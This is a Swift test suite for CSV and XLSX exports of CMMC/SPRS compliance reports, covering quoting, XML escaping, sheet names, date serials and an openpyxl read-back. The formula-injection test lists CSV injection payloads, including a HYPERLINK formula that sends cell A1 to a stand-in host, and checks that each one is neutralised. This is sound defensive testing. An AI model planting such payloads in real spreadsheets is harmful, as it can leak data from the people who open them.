import Foundation
import Testing
import TekigoCore
import TekigoTestSupport
import ZIPFoundation
@testable import TekigoReports
#if canImport(FoundationXML)
import FoundationXML
#endif

// MARK: Helpers

/// A small RFC 4180 reader, enough to read back what `CSVExport` writes.
private func parseCSV(_ text: String) -> [[String]] {
    var records: [[String]] = []
    var record: [String] = []
    var field = ""
    var quoted = false
    var chars = Array(text.unicodeScalars)[...]
    while let c = chars.popFirst() {
        if quoted {
            if c == "\"" {
                if chars.first == "\"" { field.unicodeScalars.append("\""); chars.removeFirst() } else { quoted = false }
            } else {
                field.unicodeScalars.append(c)
            }
        } else if c == "\"" {
            quoted = true
        } else if c == "," {
            record.append(field); field = ""
        } else if c == "\r", chars.first == "\n" {
            chars.removeFirst()
            record.append(field); field = ""
            records.append(record); record = []
        } else {
            field.unicodeScalars.append(c)
        }
    }
    if !field.isEmpty || !record.isEmpty { record.append(field); records.append(record) }
    return records
}

/// The CSV text after the byte order mark.
private func csvText(_ data: Data) throws -> String {
    #expect(Array(data.prefix(3)) == [0xEF, 0xBB, 0xBF])
    return try #require(String(data: data.dropFirst(3), encoding: .utf8))
}

/// Every entry of a ZIP archive held in memory.
private func unzip(_ data: Data) throws -> [String: Data] {
    let archive = try Archive(data: data, accessMode: .read)
    var parts: [String: Data] = [:]
    for entry in archive {
        var bytes = Data()
        _ = try archive.extract(entry) { bytes.append($0) }
        parts[entry.path] = bytes
    }
    return parts
}

/// Parses a worksheet part and collects what the tests look at.
private final class WorksheetReader: NSObject, XMLParserDelegate {
    var rows: [[String: String]] = []      // cell ref → text or value
    var rowNumbers: [String] = []
    var frozen = false
    var autoFilter: String?
    var dateStyledCells = 0
    private var text = ""
    private var ref = ""
    private var collecting = false

    func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?,
                attributes: [String: String] = [:]) {
        switch name {
        case "row": rows.append([:]); rowNumbers.append(attributes["r"] ?? "")
        case "c":
            ref = attributes["r"] ?? ""; text = ""
            if attributes["s"] == "2" { dateStyledCells += 1 }
        case "t", "v": collecting = true
        case "pane": frozen = attributes["state"] == "frozen" && attributes["ySplit"] == "1"
        case "autoFilter": autoFilter = attributes["ref"]
        default: break
        }
    }

    func parser(_ parser: XMLParser, foundCharacters string: String) { if collecting { text += string } }

    func parser(_ parser: XMLParser, didEndElement name: String, namespaceURI: String?, qualifiedName: String?) {
        switch name {
        case "t", "v": collecting = false
        case "c": rows[rows.count - 1][ref] = text
        default: break
        }
    }
}

private func readWorksheet(_ data: Data) throws -> WorksheetReader {
    let parser = XMLParser(data: data)
    let reader = WorksheetReader()
    parser.delegate = reader
    let ok = parser.parse()
    #expect(ok, "worksheet XML does not parse: \(String(describing: parser.parserError))")
    return reader
}

private func parsesAsXML(_ data: Data) -> Bool {
    XMLParser(data: data).parse()
}

// MARK: Tables

@Suite("Spreadsheet tables")
struct SpreadsheetTableTests {
    @Test("POA&M sheet: one row per item, milestones, SPRS points and CMMC eligibility")
    func poamSheet() throws {
        let report = try SampleAssessment.report()
        let sheets = SpreadsheetTables.sheets(.poam, report: report, language: .ja)
        let sheet = try #require(sheets.first)
        #expect(sheets.count == 1)
        #expect(sheet.name == "是正計画")
        #expect(sheet.columns.first == "要件")
        #expect(sheet.columns.contains("状態"))
        #expect(sheet.rows.count == report.poam.count)
        #expect(sheet.rows.allSatisfy { $0.count == sheet.columns.count })

        let lockout = try #require(sheet.rows.first { $0.first == .text("3.1.8") })
        #expect(lockout[1] == .text("AC.L2-3.1.8"))
        #expect(lockout[4] == .text("2027-01-15 Configure lockout GPO（完了）; 2027-02-01 Verify on all workstations"))
        #expect(lockout[7] == .text("対応中"))
        #expect(lockout[8] == .date(Day("2027-02-01")!))
        #expect(lockout[9] == .text(""))
        #expect(lockout[10] == .integer(1))
        #expect(lockout[11] == .text("可"))

        // 3.5.3 with MFA for remote and privileged users only: 3 points, so never on a CMMC POA&M.
        let mfa = try #require(sheet.rows.first { $0.first == .text("3.5.3") })
        #expect(mfa[10] == .integer(3))
        #expect(mfa[11] == .text("不可"))
        #expect(mfa[12].plainText.contains("170.21(a)(2)(ii)"))
        // 3.13.11 without FIPS validation: 3 points, the one exception allowed on the POA&M.
        let crypto = try #require(sheet.rows.first { $0.first == .text("3.13.11") })
        #expect(crypto[10] == .integer(3))
        #expect(crypto[11] == .text("可"))
    }

    @Test("Results: a row per objective and a row per requirement")
    func resultsSheets() throws {
        let report = try SampleAssessment.report()
        let sheets = SpreadsheetTables.sheets(.results, report: report, language: .en)
        #expect(sheets.map(\.name) == ["Objectives", "Requirements"])
        #expect(sheets[0].columns == ["Requirement", "Objective", "Status", "Rationale", "Evidence", "Evidence SHA-256",
                                      "Assessed by", "Assessed on"])
        #expect(sheets[0].rows.count == report.requirements.map(\.objectives.count).reduce(0, +))
        #expect(sheets[1].rows.count == report.requirements.count)
        let notMet = try #require(sheets[0].rows.first { $0[1] == .text("3.1.8[b]") })
        #expect(notMet[2] == .text("Not met"))
        #expect(notMet[7] == .date(Day("2026-11-25")!))
        let met = try #require(sheets[0].rows.first { $0[1] == .text("3.1.1[a]") })
        #expect(met[4] == .text("evidence/policy.pdf"))
        #expect(met[5] == .text(String(repeating: "ab", count: 32)))
        let mfa = try #require(sheets[1].rows.first { $0[0] == .text("3.5.3") })
        #expect(mfa[4] == .integer(5))
        #expect(mfa[5] == .integer(3))
    }

    @Test("SPRS summary: key/value rows and a deductions sheet that adds up to the score")
    func sprsSheets() throws {
        let report = try SampleAssessment.report()
        let sprs = try #require(report.sprs)
        let sheets = SpreadsheetTables.sheets(.sprs, report: report, language: .ja)
        #expect(sheets.count == 2)
        #expect(sheets[0].columns == ["項目", "値"])
        let values = Dictionary(uniqueKeysWithValues: sheets[0].rows.map { ($0[0].plainText, $0[1]) })
        #expect(values["評価日"] == .date(Day("2026-11-27")!))
        #expect(values["SPRS スコア"] == sprs.score.map(Cell.integer))
        #expect(values["CAGE コード"] == .text("8ABC1, 8ABC2"))
        #expect(values["組織"] == .text("株式会社テスト精機"))
        let deducted = sheets[1].rows.compactMap { row -> Double? in
            if case .number(let n) = row[3] { return n } else { return nil }
        }
        #expect(deducted.count == sprs.deductions.count)
        #expect(110 - Int(deducted.reduce(0, +)) == sprs.score)
    }

    @Test("SSP: requirement rows with implementation statements")
    func sspSheet() throws {
        let report = try SampleAssessment.report()
        let sheet = try #require(SpreadsheetTables.sheets(.ssp, report: report, language: .en).first)
        #expect(sheet.rows.count == report.requirements.count)
        let r = try #require(sheet.rows.first { $0[0] == .text("3.1.1") })
        #expect(r[5] == .text("Accounts are created by the IT lead on request of the plant manager."))
        let notPermitted = try #require(sheet.rows.first { $0[0] == .text("3.1.12") })
        #expect(notPermitted[6].plainText.contains("not permitted"))
    }
}

// MARK: CSV

@Suite("CSV export")
struct CSVExportTests {
    @Test("UTF-8 with a byte order mark, CRLF, RFC 4180 quoting, exact bytes")
    func exactBytes() throws {
        let sheet = Sheet(name: "t", columns: ["要件", "b,c"], rows: [
            [.text("x,y"), .text(#"say "hi""#)],
            [.number(3), .date(Day("2026-11-27")!)],
            [.text("line1\nline2"), .number(2.5)],
            [.text("cr\rlf"), .text("")],
        ])
        let data = CSVExport.data(sheet)
        let expected = "\u{FEFF}要件,\"b,c\"\r\n\"x,y\",\"say \"\"hi\"\"\"\r\n3,2026-11-27\r\n\"line1\nline2\",2.5\r\n\"cr\rlf\",\r\n"
        #expect(data == Data(expected.utf8))
        #expect(Array(data.prefix(3)) == CSVExport.byteOrderMark)
    }

    @Test("Formula injection is neutralised in text cells only")
    func formulaInjection() throws {
        let dangerous = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", #"=HYPERLINK("http://x/?"&A1,"y")"#]
        let sheet = Sheet(name: "t", columns: ["v"], rows: dangerous.map { [.text($0)] } + [[.number(-5)], [.text("a=b")]])
        let records = parseCSV(try csvText(CSVExport.data(sheet)))
        #expect(records.count == dangerous.count + 3)
        for (i, value) in dangerous.enumerated() {
            #expect(records[i + 1] == ["'" + value], "\(value.debugDescription) is not neutralised")
        }
        #expect(records[dangerous.count + 1] == ["-5"])
        #expect(records[dangerous.count + 2] == ["a=b"])
    }

    @Test("A real report round-trips through the CSV reader")
    func roundTrip() throws {
        let report = try SampleAssessment.report()
        for document in ExportDocument.allCases {
            for sheet in SpreadsheetTables.sheets(document, report: report, language: .ja) {
                let records = parseCSV(try csvText(CSVExport.data(sheet)))
                #expect(records.first == sheet.columns)
                #expect(records.count == sheet.rows.count + 1)
                for (row, record) in zip(sheet.rows, records.dropFirst()) {
                    #expect(record == row.map { cell in
                        let t = cell.plainText
                        if case .text = cell, let f = t.unicodeScalars.first, CSVExport.formulaTriggers.contains(f) {
                            return "'" + t
                        }
                        return t
                    })
                }
            }
        }
    }
}

// MARK: XLSX

@Suite("XLSX export")
struct XLSXExportTests {
    @Test("The workbook's parts exist and every part is well-formed XML")
    func parts() throws {
        let report = try SampleAssessment.report()
        let sheets = SpreadsheetTables.sheets(.results, report: report, language: .ja)
        let parts = try unzip(try XLSXExport.data(sheets))
        for name in ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                     "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
            let part = try #require(parts[name], "missing part \(name)")
            #expect(parsesAsXML(part), "\(name) is not well-formed")
        }
        let workbook = String(decoding: try #require(parts["xl/workbook.xml"]), as: UTF8.self)
        #expect(workbook.contains(#"<sheet name="評価目標""#))
        #expect(workbook.contains(#"<sheet name="要件""#))

        let objectives = try readWorksheet(try #require(parts["xl/worksheets/sheet1.xml"]))
        #expect(objectives.rows.count == sheets[0].rows.count + 1)
        #expect(objectives.rows[0]["A1"] == "要件")
        #expect(objectives.rows[0]["B1"] == "評価目標")
        #expect(objectives.rows[0]["D1"] == "根拠")
        #expect(objectives.rows[0]["E1"] == "証跡")
        #expect(objectives.frozen)
        #expect(objectives.autoFilter == "A1:H\(sheets[0].rows.count + 1)")
        // Assessment dates are written as date serials with the date style.
        let dated = sheets[0].rows.filter { row in row.contains { if case .date = $0 { true } else { false } } }
        #expect(objectives.dateStyledCells == dated.count)
        #expect(dated.count > 300)
        #expect(objectives.rows[1]["H2"] == String(XLSXExport.serial(Day("2026-11-25")!)))
    }

    @Test("Excel date serials")
    func serials() {
        #expect(XLSXExport.serial(Day("1900-03-01")!) == 61)
        #expect(XLSXExport.serial(Day("2026-11-27")!) == 46_353)
    }

    @Test("Sheet names follow Excel's rules")
    func sheetNames() {
        let names = XLSXExport.sheetNames(["a/b:c*?[x]\\", String(repeating: "長", count: 40), "Data", "data", "", "'q'",
                                           "History"])
        #expect(names[0] == "a_b_c___x__")
        #expect(names[1] == String(repeating: "長", count: 31))
        #expect(names[2] == "Data")
        #expect(names[3] == "data (2)")
        #expect(names[4] == "Sheet5")
        #expect(names[5] == "q")
        #expect(names[6] == "Sheet7")
        #expect(names.allSatisfy { !$0.isEmpty && $0.utf16.count <= 31 })
    }

    @Test("Text is escaped and characters illegal in XML 1.0 are dropped")
    func escaping() throws {
        let nasty = "<b>&\"'\u{01}\u{0B}bell\u{07} _x0041_ \u{FFFF}end\r\n"
        let sheet = Sheet(name: "x<y>&", columns: ["h"], rows: [[.text(nasty)], [.text("=1+1")], [.number(-203)]])
        let parts = try unzip(try XLSXExport.data([sheet]))
        #expect(parsesAsXML(try #require(parts["xl/workbook.xml"])))
        let ws = try readWorksheet(try #require(parts["xl/worksheets/sheet1.xml"]))
        #expect(ws.rows[1]["A2"] == "<b>&\"'bell _x005F_x0041_ end\r\n")
        // Inline strings are never formulas: no apostrophe needed in a workbook.
        #expect(ws.rows[2]["A3"] == "=1+1")
        #expect(ws.rows[3]["A4"] == "-203")
    }

    @Test("Same sheets, same bytes")
    func deterministic() throws {
        let report = try SampleAssessment.report()
        let sheets = SpreadsheetTables.sheets(.poam, report: report, language: .en)
        #expect(try XLSXExport.data(sheets) == XLSXExport.data(sheets))
        #expect(throws: XLSXExport.Failure.self) { try XLSXExport.data([]) }
    }

    /// What the openpyxl script prints.
    private struct OpenpyxlView: Decodable {
        struct SheetView: Decodable {
            let name: String
            let header: [String?]
            let rows: Int
            let freeze: String?
            let autofilter: String?
        }
        let sheets: [SheetView]
        let firstScheduledCompletion: String?
        let firstScheduledCompletionIsDate: Bool
        let firstPointsLost: Double?
    }

    @Test("openpyxl, a real consumer, reads the workbook",
          .enabled(if: TestEnvironment.runValidatorTests, "needs .venv-validators with openpyxl (scripts/validators.sh)"))
    func openpyxlReadsIt() throws {
        let python = try TestEnvironment.validator("python")
        let probe = try runProcess(python, ["-c", "import openpyxl"])
        try #require(probe.status == 0, "openpyxl is not installed in \(python.path): run scripts/validators.sh\n\(probe.stderr)")

        let report = try SampleAssessment.report()
        let sheets = SpreadsheetTables.sheets(.poam, report: report, language: .ja)
            + SpreadsheetTables.sheets(.results, report: report, language: .ja)
            + SpreadsheetTables.sheets(.sprs, report: report, language: .ja)
        let dir = try TestEnvironment.temporaryDirectory("tekigo-xlsx")
        defer { try? FileManager.default.removeItem(at: dir) }
        let file = dir.appendingPathComponent("report.xlsx")
        try XLSXExport.data(sheets).write(to: file)

        let script = """
        import json, sys, datetime
        import openpyxl
        wb = openpyxl.load_workbook(sys.argv[1])
        out = {"sheets": []}
        for ws in wb.worksheets:
            header = [c.value for c in next(ws.iter_rows(min_row=1, max_row=1))]
            out["sheets"].append({"name": ws.title, "header": header, "rows": ws.max_row - 1,
                                  "freeze": ws.freeze_panes, "autofilter": ws.auto_filter.ref})
        poam = wb.worksheets[0]
        cell = poam.cell(row=2, column=9)
        out["firstScheduledCompletion"] = cell.value.date().isoformat() if isinstance(cell.value, datetime.datetime) else None
        out["firstScheduledCompletionIsDate"] = bool(cell.is_date)
        points = poam.cell(row=2, column=11).value
        out["firstPointsLost"] = points if isinstance(points, (int, float)) else None
        print(json.dumps(out))
        """
        let result = try runProcess(python, ["-c", script, file.path])
        try #require(result.status == 0, "openpyxl failed: \(result.stderr)")
        // openpyxl warns on stderr about parts it has to guess at (missing default style, bad ranges, ...).
        #expect(result.stderr.isEmpty, "openpyxl warned: \(result.stderr)")
        let view = try JSONDecoder().decode(OpenpyxlView.self, from: Data(result.stdout.utf8))

        #expect(view.sheets.map(\.name) == ["是正計画", "評価目標", "要件", "SPRS", "減点"])
        #expect(view.sheets.map(\.header) == sheets.map { $0.columns.map(Optional.some) })
        #expect(view.sheets.map(\.rows) == sheets.map(\.rows.count))
        #expect(view.sheets[0].rows == report.poam.count)
        #expect(view.sheets[0].header.first == "要件")
        #expect(view.sheets[1].header.prefix(4) == ["要件", "評価目標", "状態", "根拠"])
        #expect(view.sheets.allSatisfy { $0.freeze == "A2" })
        #expect(view.sheets[0].autofilter == "A1:M\(report.poam.count + 1)")

        let first = try #require(report.poam.first)
        #expect(view.firstScheduledCompletion == first.scheduledCompletion?.description)
        #expect(view.firstScheduledCompletionIsDate)
        #expect(view.firstPointsLost == Double(report.sprs?.deductions.filter { $0.requirement == first.requirement }
            .reduce(0) { $0 + $1.points } ?? -1))
    }
}
